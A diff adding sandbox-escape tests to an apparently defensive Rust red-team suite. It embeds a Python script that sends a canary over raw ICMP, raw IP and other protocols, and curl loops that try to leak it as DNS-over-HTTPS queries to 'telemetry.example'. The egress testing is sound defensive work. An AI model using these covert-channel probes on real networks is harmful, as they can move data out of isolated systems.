@@ -1,13 +1,15 @@
 //! Red team, group A: from a workspace, nothing is reached. Each attack also runs in a pod that is no workspace, where it
 //! succeeds.
 
-use std::time::Duration;
+use std::{collections::BTreeMap, time::Duration};
 
 use anyhow::{Result, ensure};
+use serde_json::json;
 use ws_tests::{
+    command::run_with_input,
     lab::Lab,
     namespace::with_namespace,
-    pod::give_ipv6,
+    pod::{bare_pod, changed, give_ipv6, start},
     probe::{INTERNET, INTERNET_V6, Target, canary, from_pod, from_workspace, open_pod},
     project::Project,
     wait::{PATIENCE, eventually},
@@ -83,6 +85,112 @@ async fn a02_raw_sockets_reach_no_port_of_the_internet_or_the_company() -> Resul
             .flat_map(|host| ports.map(|port| Target::tcp(host, port, &canary)))
             .chain([Target::tcp(COMPANY, 80, &canary)])
             .collect())
+    })
+    .await
+}
+
+/// Asks the kernel for sockets that are neither TCP's nor UDP's, and sends what `canary` says through those that can be had to the
+/// address. Prints what became of each: `answered`, `silent`, or the error's name.
+const OTHER_SOCKETS: &str = r#"
+import errno, json, socket, struct, sys
+address, canary = json.load(sys.stdin)
+payload = canary.encode()
+
+def echo(kind):
+    """An echo request (RFC 792)."""
+    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
+        s.settimeout(2)
+        words = struct.unpack(f"!{4 + len(payload) // 2}H", struct.pack("!BBHHH", 8, 0, 0, 7, 1) + payload)
+        total = sum(words)
+        total = (total >> 16) + (total & 0xFFFF)
+        total += total >> 16
+        s.sendto(struct.pack("!BBHHH", 8, 0, ~total & 0xFFFF, 7, 1) + payload, (address, 0))
+        # The first that comes may be somebody else's.
+        return any(payload in s.recv(2048) for _ in range(5))
+
+def connect(kind, protocol):
+    with socket.socket(socket.AF_INET, kind, protocol) as s:
+        s.settimeout(2)
+        s.connect((address, 443))
+        return True
+
+def outcome(attempt):
+    try:
+        return "answered" if attempt() else "silent"
+    except TimeoutError:
+        return "silent"
+    except OSError as error:
+        return errno.errorcode[error.errno]
+
+SCTP, DCCP, UDP_LITE = 132, 33, 136
+print(json.dumps({
+    "ping": outcome(lambda: echo(socket.SOCK_DGRAM)),
+    "raw ICMP": outcome(lambda: echo(socket.SOCK_RAW)),
+    "raw IP": outcome(lambda: connect(socket.SOCK_RAW, socket.IPPROTO_RAW)),
+    "SCTP": outcome(lambda: connect(socket.SOCK_STREAM, SCTP)),
+    "SCTP by messages": outcome(lambda: connect(socket.SOCK_SEQPACKET, SCTP)),
+    "DCCP": outcome(lambda: connect(6, DCCP)),
+    "UDP-Lite": outcome(lambda: connect(socket.SOCK_DGRAM, UDP_LITE)),
+}))
+"#;
+
+#[tokio::test]
+#[ignore = "needs the lab"]
+async fn a02_neither_pings_nor_raw_packets_nor_other_protocols_leave() -> Result<()> {
+    with_namespace(async |lab, namespace| {
+        let ws = Ws::new(lab, namespace)?;
+        ws.up("caged", Project::empty()?.path()).await?;
+        let input = serde_json::to_vec(&(INTERNET, canary()?))?;
+        let arguments = ["attach", "caged", "--", "python3", "-c", OTHER_SOCKETS];
+        let inside = ws.run_with_input(input.clone(), &arguments).await?.ok()?;
+        let inside: BTreeMap<String, String> = serde_json::from_str(&inside.stdout)?;
+        // Our own filter's word: a kernel that does not know a protocol says another.
+        ensure!(inside.len() == 7 && inside.values().all(|became| became == "EPERM"), "{inside:?}");
+
+        // The control has the right to make packets, and is answered.
+        let pod = bare_pod(OPEN, &lab.workspace_image().await?, &["sleep", "3600"]);
+        let may_send = [
+            ("/spec/securityContext", json!({"runAsUser": 0})),
+            ("/spec/containers/0/securityContext", json!({"capabilities": {"add": ["NET_RAW"]}})),
+        ];
+        start(lab, namespace, &changed(pod, &may_send)?).await?;
+        let arguments = ["-n", namespace, "exec", "-i", OPEN, "--", "python3", "-c", OTHER_SOCKETS];
+        let outside = run_with_input(lab.kubectl_command(&arguments), input, PATIENCE).await?.ok()?;
+        let outside: BTreeMap<String, String> = serde_json::from_str(&outside.stdout)?;
+        ensure!(outside.get("raw ICMP").is_some_and(|became| became == "answered"), "{outside:?}");
+        ensure!(outside.values().all(|became| became != "EPERM"), "nothing forbids it there: {outside:?}");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+#[ignore = "needs the lab"]
+async fn a03_no_question_for_a_name_leaves_in_tls() -> Result<()> {
+    with_namespace(async |lab, namespace| {
+        let (ws, inside, outside) = (Ws::new(lab, namespace)?, canary()?, canary()?);
+        ws.up("mute", Project::empty()?.path()).await?;
+        open_pod(lab, namespace, OPEN).await?;
+        // DNS over HTTPS (RFC 8484) and over TLS (RFC 7858) to an address, which is told the name in the handshake already.
+        let ask = |word: &str| {
+            let name = format!("{word}.telemetry.example");
+            let curl = "curl -sk -o /dev/null --max-time 3";
+            format!(
+                "for port in 443 853 8443; do \
+                     {curl} --noproxy '*' --resolve {name}:$port:{INTERNET} \"https://{name}:$port/dns-query?dns={word}\"; done; \
+                 {curl} 'https://{INTERNET}/dns-query?dns={word}'; {curl} --doh-url https://{INTERNET}/dns-query https://{name}/; true"
+            )
+        };
+        ws.bash("mute", &ask(&inside)).await?.ok()?;
+        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &ask(&outside)]).await?.ok()?;
+        eventually(PATIENCE, "the control's handshakes in the sinks", async || {
+            let sunk = lab.sunk()?;
+            anyhow::Ok((sunk.matches(&format!("{outside}.telemetry.example")).count() >= 3).then_some(()))
+        })
+        .await?;
+        ensure!(!lab.sunk()?.contains(&inside), "a handshake of the workspace arrived");
+        ensure!(!lab.resolved()?.contains(&inside), "a name was asked for");
+        Ok(())
     })
     .await
 }
